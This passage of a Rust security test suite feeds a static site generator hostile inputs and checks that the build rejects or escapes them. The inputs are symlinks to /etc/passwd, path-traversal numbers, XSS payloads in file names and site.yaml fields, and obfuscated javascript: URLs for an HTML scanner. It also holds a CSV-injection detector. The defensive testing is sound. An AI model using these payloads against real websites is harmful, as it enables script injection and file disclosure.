                std::fs::write(out.join("recs/05.md"), secret_rec(5, SECRET)).unwrap();
                symlink(out.join("recs"), &s.path().join(RECS).join("linked"));
            },
        )
        .fails(format!("{RECS}/linked"), "symbolic link")
        .never(SECRET),
    );
    v.push(
        Case::new(Symlinks, "review folder linked outside", |s, out| {
            let r = out.join("review");
            std::fs::create_dir_all(r.join("recommendations")).unwrap();
            std::fs::write(
                r.join("_review.md"),
                format!("---\ntitle: {SECRET}\n---\n{SECRET}\n"),
            )
            .unwrap();
            std::fs::write(r.join("recommendations/01.md"), secret_rec(1, SECRET)).unwrap();
            symlink(&r, &s.path().join("content/linked-review"));
        })
        .fails("content/linked-review", "symbolic link")
        .never(SECRET),
    );
    v.push(
        Case::new(Symlinks, "link to /etc/passwd", |s, _| {
            symlink("/etc/passwd", &s.path().join(RECS).join("06-passwd.md"));
        })
        .fails(format!("{RECS}/06-passwd.md"), "symbolic link"),
    );
    v.push(
        Case::new(Symlinks, "relative link climbing out with ../", |s, out| {
            std::fs::write(out.join("secret.md"), secret_rec(4, SECRET)).unwrap();
            let up = "../".repeat(s.path().join(RECS).components().count() + 2);
            symlink(
                format!(
                    "{up}{}",
                    out.join("secret.md")
                        .display()
                        .to_string()
                        .trim_start_matches('/')
                ),
                &s.path().join(RECS).join("04-climb.md"),
            );
        })
        .fails(format!("{RECS}/04-climb.md"), "symbolic link")
        .never(SECRET),
    );
    v.push(
        Case::new(Symlinks, "dangling link", |s, _| {
            symlink(
                "/nonexistent/scrutiny/nothing.md",
                &s.path().join(RECS).join("07-dangling.md"),
            );
        })
        .fails(format!("{RECS}/07-dangling.md"), "symbolic link"),
    );
    v.push(
        Case::new(Symlinks, "link loop", |s, _| {
            let dir = s.path().join(RECS);
            symlink("08-b.md", &dir.join("08-a.md"));
            symlink("08-a.md", &dir.join("08-b.md"));
        })
        .fails(format!("{RECS}/08-a.md"), "symbolic link"),
    );
    v.push(Case::new(
        Symlinks,
        "folder linked to its own parent",
        |s, _| {
            symlink("..", &s.path().join(RECS).join("loop"));
        },
    ));
    v.push(
        Case::new(
            Symlinks,
            "link to a file inside the site is followed",
            |s, _| {
                s.write(
                    "drafts/09.md",
                    rec(
                        &[("number", "9".into()), ("title", "Linked inside".into())],
                        "Inside.",
                    ),
                );
                symlink(
                    "../../../drafts/09.md",
                    &s.path().join(RECS).join("09-inside.md"),
                );
            },
        )
        .page("public/town-centre/recommendations/9/index.html")
        .shows(
            "public/town-centre/recommendations/9/index.html",
            "Linked inside",
        ),
    );
    v.push(
        Case::new(
            Symlinks,
            "content folder itself linked outside",
            |s, out| {
                let c = out.join("content");
                std::fs::rename(s.path().join("content"), &c).unwrap();
                std::fs::write(
                    c.join("town-centre/recommendations/04-secret.md"),
                    secret_rec(4, SECRET),
                )
                .unwrap();
                symlink(&c, &s.path().join("content"));
            },
        )
        .fails("content", "symbolic link")
        .never(SECRET),
    );

    // --- File names -----------------------------------------------------------------------------
    v.push(
        Case::new(
            FileNames,
            "spaces and non-ASCII in a recommendation file name",
            |s, _| {
                s.write(
                    &format!("{RECS}/ünïcödé name.md"),
                    rec(&[("title", "Ünïcödé title".into())], "Réponse."),
                );
            },
        )
        .page(PAGE3)
        .shows(PAGE3, "Ünïcödé title"),
    );
    v.push(
        Case::new(
            FileNames,
            "spaces and non-ASCII in a review folder",
            |s, _| {
                let from = s.path().join("content/town-centre");
                std::fs::rename(&from, s.path().join("content/Ünïcödé review")).unwrap();
            },
        )
        .page("public/unicode-review/index.html"),
    );
    v.push(Case::new(FileNames, "markup in a file name", |s, _| {
        s.write(
            &format!("{RECS}/<img src=x onerror=alert(1)>.md"),
            rec_body("x"),
        );
    }));
    v.push(
        Case::new(FileNames, "markup in a review folder name", |s, _| {
            std::fs::rename(
                s.path().join("content/town-centre"),
                s.path().join("content/<svg onload=alert(1)>"),
            )
            .unwrap();
        })
        .page("public/svg-onload-alert-1/index.html"),
    );
    v.push(Case::new(
        FileNames,
        "newline and tab in a file name",
        |s, _| {
            s.write(&format!("{RECS}/03\nwith\tbreaks.md"), rec_body("x"));
        },
    ));
    #[cfg(unix)]
    v.push(
        Case::new(FileNames, "file name that is not UTF-8", |s, _| {
            use std::os::unix::ffi::OsStrExt;
            let name = std::ffi::OsStr::from_bytes(b"03-\xff\xfe.md");
            std::fs::write(s.path().join(RECS).join(name), rec_body("x")).unwrap();
        })
        .fails(RECS, "the file name is not valid UTF-8"),
    );
    v.push(Case::new(FileNames, "255-byte file name", |s, _| {
        s.write(&format!("{RECS}/{}.md", "n".repeat(252)), rec_body("x"));
    }));
    v.push(Case::new(
        FileNames,
        "file name starting with a dash",
        |s, _| {
            s.write(&format!("{RECS}/--output=..md"), rec_body("x"));
        },
    ));
    v.push(Case::new(
        FileNames,
        "Markdown file outside any review",
        |s, _| {
            s.write("content/stray.md", rec_body("x"));
            s.write("content/town-centre/notes/x.md", rec_body("x"));
        },
    ));

    // --- Numbers --------------------------------------------------------------------------------
    for (name, number, page) in [
        (
            "../../x",
            "\"../../scrutiny-escape-probe\"",
            "scrutiny-escape-probe",
        ),
        (
            "<script>",
            "\"<script>alert(1)</script>\"",
            "script-alert-1-script",
        ),
        ("/etc/passwd", "/etc/passwd", "etc-passwd"),
        ("..", "\"..\"", "untitled"),
        (
            "percent-encoded ../",
            "\"%2e%2e%2fscrutiny-escape-probe\"",
            "2e-2e-2fscrutiny-escape-probe",
        ),
        (
            "Windows path",
            "'..\\..\\scrutiny-escape-probe'",
            "scrutiny-escape-probe",
        ),
        ("10,000 digits", &"9".repeat(10_000), ""),
        ("Arabic-Indic digit", "\"٣\"", "untitled"),
        ("emoji", "\"🔥\"", "untitled"),
    ] {
        let number = number.to_string();
        let mut c = Case::new(Class::Numbers, format!("number {name}"), move |s, _| {
            s.write(HOSTILE, rec(&[("number", number.clone())], "Response."));
        });
        if !page.is_empty() {
            c = c.page(format!(
                "public/town-centre/recommendations/{page}/index.html"
            ));
        }
        v.push(c);
    }

    // --- site.yaml ------------------------------------------------------------------------------
    for field in ["title", "organisation", "description"] {
        v.push(
            Case::new(SiteConfig, format!("site.yaml `{field}`"), move |s, _| {
                let text = s.read("site.yaml");
                let text = match text.lines().find(|l| l.starts_with(&format!("{field}:"))) {
                    Some(line) => text.replacen(line, "", 1),
                    None => text,
                };
                s.write(
                    "site.yaml",
                    format!("{text}\n{field}: {}\n", block(PAYLOAD, 2)),
                );
            })
            .page("public/index.html"),
        );
    }
    v.push(
        Case::new(SiteConfig, "site.yaml `language`", |s, _| {
            edit(
                s,
                "site.yaml",
                "language: en-GB",
                "language: 'en\"><script>alert(1)</script>'",
            );
        })
        .page("public/index.html"),
    );
    v.push(
        Case::new(SiteConfig, "site.yaml `base_url` javascript:", |s, _| {
            edit(
                s,
                "site.yaml",
                "base_url: https://example.org/scrutiny/",
                "base_url: javascript:alert(1)//",
            );
        })
        .fails("site.yaml", "base_url"),
    );
    v.push(
        Case::new(SiteConfig, "site.yaml `base_url` with markup", |s, _| {
            edit(
                s,
                "site.yaml",
                "base_url: https://example.org/scrutiny/",
                "base_url: 'https://example.org/\"><script>alert(1)</script>/'",
            );
        })
        .fails("site.yaml", "`base_url` may not contain"),
    );
    v.push(
        Case::new(
            SiteConfig,
            "site.yaml `theme` climbing out with ../",
            |s, out| {
                // A theme outside the site, complete but for a secret in its base template.
                let templates = out.join("theme/templates");
                std::fs::create_dir_all(&templates).unwrap();
                let default = example_root().join("themes/default/templates");
                for e in walkdir::WalkDir::new(&default) {
                    let e = e.unwrap();
                    let to = templates.join(e.path().strip_prefix(&default).unwrap());
                    if e.file_type().is_dir() {
                        std::fs::create_dir_all(&to).unwrap();
                    } else {
                        std::fs::copy(e.path(), &to).unwrap();
                    }
                }
                let base = templates.join("base.html");
                let text = std::fs::read_to_string(&base).unwrap();
                std::fs::write(&base, format!("{text}<!-- {SECRET_THEME} -->")).unwrap();
                // `themes/` exists, so `themes/../..` resolves.
                std::fs::create_dir_all(s.path().join("themes/default")).unwrap();
                let up = "../".repeat(s.path().components().count() + 1);
                let target = out.join("theme").display().to_string();
                let theme = format!("{up}{}", target.trim_start_matches('/'));
                edit(
                    s,
                    "site.yaml",
                    "language: en-GB",
                    &format!("language: en-GB\ntheme: {theme}"),
                );
            },
        )
        .fails("site.yaml", "theme")
        .never(SECRET_THEME),
    );
    v.push(
        Case::new(SiteConfig, "vocabulary label and colour", |s, _| {
            s.write(
                "site.yaml",
                format!(
                    "{}\nvocabulary:\n  statuses:\n    in-progress:\n      label: {}\n      colour: \"red;}}</style><script>alert(1)</script>\"\n",
                    s.read("site.yaml"),
                    block(PAYLOAD, 8)
                ),
            );
        })
        .fails("site.yaml", "is not a colour"),
    );
    v.push(
        Case::new(SiteConfig, "vocabulary label", |s, _| {
            s.write(
                "site.yaml",
                format!(
                    "{}\nvocabulary:\n  statuses:\n    in-progress:\n      label: {}\n",
                    s.read("site.yaml"),
                    block(PAYLOAD, 8)
                ),
            );
        })
        .page(PAGE3.replace("/3/", "/1/")),
    );

    v
}

// ---------------------------------------------------------------------------------------------
// Running a case

/// Every problem with what `build` wrote: unescaped markers, unsafe tags and URLs (in pages,
/// feeds and the HTML inside feed entries), invalid or script-carrying JSON.
fn output_problems(out: &Path) -> Vec<String> {
    let mut problems = Vec::new();
    for (path, bytes) in tree(out) {
        let text = String::from_utf8_lossy(&bytes);
        let lower = text.to_ascii_lowercase();
        // CSV and plain-text files are data, not markup: a browser never runs them.
        let markup = [".html", ".xml", ".svg", ".json", ".js", ".css"]
            .iter()
            .any(|e| path.ends_with(e));
        for m in RAW_MARKERS.iter().filter(|_| markup) {
            if lower.contains(&m.to_ascii_lowercase()) {
                problems.push(format!("{path}: contains {m:?} unescaped"));
            }
        }
        if path.ends_with(".html") || path.ends_with(".xml") || path.ends_with(".svg") {
            problems.extend(
                html_scan::problems(&text, Mode::Page)
                    .into_iter()
                    .map(|p| format!("{path}: {p}")),
            );
        }
        if path.ends_with(".xml") {
            for html in html_scan::feed_html(&text) {
                problems.extend(
                    html_scan::problems(&html, Mode::Fragment)
                        .into_iter()
                        .map(|p| format!("{path} (as a feed reader renders it): {p}")),
                );
            }
        }
        if path.ends_with(".json") {
            if let Err(e) = serde_json::from_slice::<serde_json::Value>(&bytes) {
                problems.push(format!("{path} is not JSON: {e}"));
            }
            if lower.contains("<script") || lower.contains("</script") {
                problems.push(format!("{path}: a raw <script> in JSON"));
            }
        }
        if path.ends_with(".csv") {
            problems.extend(
                csv_formulas(&bytes)
                    .into_iter()
                    .map(|p| format!("{path}: {p}")),
            );
        }
        if path.ends_with(".css")
            && (lower.contains("</style")
                || lower.contains("<script")
                || lower.contains("javascript:"))
        {
            problems.push(format!("{path}: markup or a script URL in CSS"));
        }
    }
    problems
}

/// Cells a spreadsheet would run as a formula ("CSV injection"): text starting with `=`, `+`,
/// `-`, `@`, a tab or a carriage return, unless it is a plain number.
fn csv_formulas(bytes: &[u8]) -> Vec<String> {
    let mut out = Vec::new();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    for (row, record) in reader.byte_records().enumerate() {
        let Ok(record) = record else {
            out.push(format!("row {} is not CSV", row + 1));
            break;
        };
        for cell in record.iter() {
            let cell = String::from_utf8_lossy(cell);
            let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            if risky && cell.trim().parse::<f64>().is_err() {
                out.push(format!(
                    "row {}: cell {cell:?} is a spreadsheet formula",
                    row + 1
                ));
            }
        }
    }
    out
}

/// The visible text of an HTML page, entities decoded, whitespace collapsed.
fn visible_text(html: &str) -> String {
    common::collapse(&html_scan::decode_entities(&common::strip_tags(html)))
}

/// Names that a path-traversing number could create next to or above the site.
const ESCAPE_PROBE: &str = "scrutiny-escape-probe";

/// Run one case; the problems found (empty when it passed).
fn run_case(case: &Case) -> Vec<String> {
    let site = Site::fixture("minimal");
    let outside = tempfile::Builder::new()
        .prefix("scrutiny-outside-")
        .tempdir()
        .unwrap();
    (case.setup)(&site, outside.path());
    let before = tree(site.path());

    let started = Instant::now();
    let check = site.check(); // `common::run` asserts there was no panic
    let build = site.run(&["build"]);
    let took = started.elapsed();

    let mut problems = Vec::new();
    let mut fail = |p: String| problems.push(p);
    if took > TIME_LIMIT {
        fail(format!("took {took:?} (limit {TIME_LIMIT:?})"));
    }
    for r in [&check, &build] {
        if r.code != 0 && r.code != 1 {
            fail(format!("exit code {}", r.code));
        }
    }
    if check.code == 1 && build.code == 0 {
        fail(format!(
            "check failed but build succeeded:\n{}",
            check.stderr
        ));
    }

    // Nothing written outside public/, no source file changed or removed.
    let after = tree(site.path());
    for (path, bytes) in &before {
        match after.get(path) {
            Some(b) if b == bytes => {}
            Some(_) => fail(format!("{path} was changed")),
            None => fail(format!("{path} was removed")),
        }
    }
    for path in after.keys().filter(|p| !before.contains_key(*p)) {
        if !path.starts_with("public/") {
            fail(format!("{path} written outside the output folder"));
        }
    }
    let mut up = site.path().to_path_buf();
    for _ in 0..4 {
        if !up.pop() {
            break;
        }
        if up.join(ESCAPE_PROBE).exists() {
            fail(format!(
                "{} written above the site",
                up.join(ESCAPE_PROBE).display()
            ));
        }
    }
    if Path::new("/tmp/scrutiny-pwned").exists() {
        fail("a YAML tag ran a command".into());
    }

    let public = site.path().join("public");
    let outputs = if public.exists() {
        tree(&public)
    } else {
        BTreeMap::new()
    };
    for text in &case.never {
        let needle = text.as_bytes();
        for (path, bytes) in &outputs {
            if bytes.windows(needle.len()).any(|w| w == needle) {
                fail(format!("public/{path} contains {text:?}"));
            }
        }
        for r in [&check, &build] {
            if r.stderr.contains(text.as_str()) || r.stdout.contains(text.as_str()) {
                fail(format!("the diagnostics show {text:?}"));
            }
        }
    }

    match &case.expect {
        Expect::Builds => {
            if build.code != 0 {
                fail(format!(
                    "expected to build, exit {}:\n{}",
                    build.code,
                    tail(&build.stderr)
                ));
            } else {
                for p in output_problems(&public) {
                    fail(p);
                }
                for page in &case.pages {
                    if !site.path().join(page).is_file() {
                        fail(format!("{page} was not published"));
                    }
                }
                for (page, text) in &case.shows {
                    match std::fs::read_to_string(site.path().join(page)) {
                        Ok(html) if visible_text(&html).contains(text.as_str()) => {}
                        Ok(_) => fail(format!("{page} does not show {text:?}")),
                        Err(e) => fail(format!("{page}: {e}")),
                    }
                }
            }
        }
        Expect::Fails { file, message } => {
            for (what, r) in [("check", &check), ("build", &build)] {
                if r.code != 1 {
                    fail(format!(
                        "expected `{what}` to fail with exit 1, got {}",
                        r.code
                    ));
                    continue;
                }
                if !names_file(r, file, message) {
                    fail(format!(
                        "`{what}` has no error in {file} containing {message:?}:\n{}",
                        tail(&r.stderr)
                    ));
                }
            }
            if public.exists() {
                fail("a failed build published output".into());
            }
        }
    }
    problems
}

/// Whether `r` has an error located in `file` (exactly, or inside the folder `file`) whose
/// message contains `message`.
fn names_file(r: &Run, file: &str, message: &str) -> bool {
    r.diagnostics().iter().any(|d| {
        d.severity == Severity::Error
            && (d.file() == file || d.file().starts_with(&format!("{file}/")))
            && d.message.contains(message)
    })
}

fn tail(s: &str) -> String {
    let lines: Vec<&str> = s.lines().collect();
    let start = lines.len().saturating_sub(40);
    let mut t: String = lines[start..].join("\n");
    if t.len() > 4000 {
        t = format!("…{}", &t[t.len() - 4000..]);
    }
    t
}

/// Run every case of `class`, failing with all problems of all cases at once.
fn run_class(class: Class) {
    let cases: Vec<Case> = cases().into_iter().filter(|c| c.class == class).collect();
    assert!(!cases.is_empty());
    let mut report = Vec::new();
    for case in &cases {
        let started = Instant::now();
        let problems = run_case(case);
        eprintln!(
            "{class:?} / {}: {} in {:?}",
            case.name,
            if problems.is_empty() { "ok" } else { "FAILED" },
            started.elapsed()
        );
        if !problems.is_empty() {
            report.push(format!(
                "--- {:?} / {}\n{}",
                class,
                case.name,
                problems.join("\n")
            ));
        }
    }
    assert!(
        report.is_empty(),
        "{} of {} {class:?} cases failed:\n{}",
        report.len(),
        cases.len(),
        report.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Tests: one per class so they run in parallel

#[test]
fn field_injection() {
    run_class(Class::FieldInjection);
}

#[test]
fn markdown_injection() {
    run_class(Class::MarkdownInjection);
}

#[test]
fn evidence_links() {
    run_class(Class::EvidenceLinks);
}

#[test]
fn comments_and_cdata() {
    run_class(Class::CommentsAndCdata);
}

#[test]
fn size() {
    run_class(Class::Size);
}

#[test]
fn yaml_bombs() {
    run_class(Class::YamlBombs);
}

#[test]
fn encoding() {
    run_class(Class::Encoding);
}

#[cfg(unix)]
#[test]
fn symlinks() {
    run_class(Class::Symlinks);
}

#[test]
fn file_names() {
    run_class(Class::FileNames);
}

#[test]
fn numbers() {
    run_class(Class::Numbers);
}

#[test]
fn site_config() {
    run_class(Class::SiteConfig);
}

/// The table's size and classes, as `docs/reliability.md` reports them
/// (`cargo test --test hostile inventory -- --nocapture` prints it).
#[test]
fn inventory() {
    let all = cases();
    let mut per_class: BTreeMap<Class, (usize, usize)> = BTreeMap::new();
    let mut names = std::collections::HashSet::new();
    for c in &all {
        assert!(
            names.insert((c.class, c.name.clone())),
            "duplicate case {:?} / {}",
            c.class,
            c.name
        );
        let e = per_class.entry(c.class).or_default();
        match c.expect {
            Expect::Builds => e.0 += 1,
            Expect::Fails { .. } => e.1 += 1,
        }
    }
    for (class, (builds, fails)) in &per_class {
        println!(
            "{class:?}: {} cases ({builds} build safely, {fails} fail with a diagnostic)",
            builds + fails
        );
    }
    println!("total: {} cases", all.len());
    assert_eq!(
        all.len(),
        DOCUMENTED_CASES,
        "update DOCUMENTED_CASES and docs/reliability.md together"
    );
}

/// The scanner the cases rely on finds what it looks for (and the fuzz target uses the same).
#[test]
fn the_markup_scan_finds_what_it_looks_for() {
    let bad = [
        "<script>alert(1)</script>",
        "<SCRIPT>x</SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\" JavaScript:alert(1)\">x</a>",
        "<a href='&#106;avascript:x'>e</a>",
        "<a href=\"jav&#x61;script:x\">e</a>",
        "<a href=\"&#106avascript:x\">e</a>",
        "<a href=\"java&#9;script:x\">e</a>",
        "<a href=\"&#1;javascript:x\">e</a>",
        "<a href=\"javascript&colon;x\">e</a>",
        "<a href=\"data:text/html,x\">d</a>",
        "<img src=\"data:image/svg+xml,x\">",
        "<a href=\"vbscript:x\">v</a>",
        "<iframe src=\"https://x\"></iframe>",
        "<meta http-equiv=\"refresh\" content=\"0\">",
    ];
    for b in bad {
        assert!(
            !html_scan::problems(b, Mode::Page).is_empty(),
            "{b} should be flagged"
        );
        assert!(
            !html_scan::problems(b, Mode::Fragment).is_empty(),
            "{b} should be flagged"
        );
    }
    let good = [
        "<p title=\"a onerror=b\">&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<a href=\"https://x/?javascript:\">ok</a>",
        "<!-- <script>x</script> -->",
        "<img src=\"data:image/png;base64,AAAA\" alt=\"\">",
        "<a href=\"\">emptied</a>",
        "<p>javascript:alert(1) onload=x</p>",
    ];
    for g in good {
        assert!(
            html_scan::problems(g, Mode::Fragment).is_empty(),
            "{g}: {:?}",
            html_scan::problems(g, Mode::Fragment)
        );
    }
    assert!(html_scan::problems(
        "<script src=\"/static/site.js\" defer></script>",
        Mode::Page
    )
    .is_empty());
    assert!(!html_scan::problems(
        "<script src=\"/static/site.js\" defer></script>",
        Mode::Fragment
    )
    .is_empty());
    assert_eq!(
        csv_formulas(b"a,=1+1,-2,'=x,+3.5,@SUM(A1),-,\"\tx\"\n").len(),
        4,
        "=1+1, @SUM(A1), - and a tab-led cell"
    );
    assert_eq!(
        html_scan::feed_html(r#"<content type="html">&lt;img onerror=x&gt;</content>"#),
        ["<img onerror=x>"]
    );
}
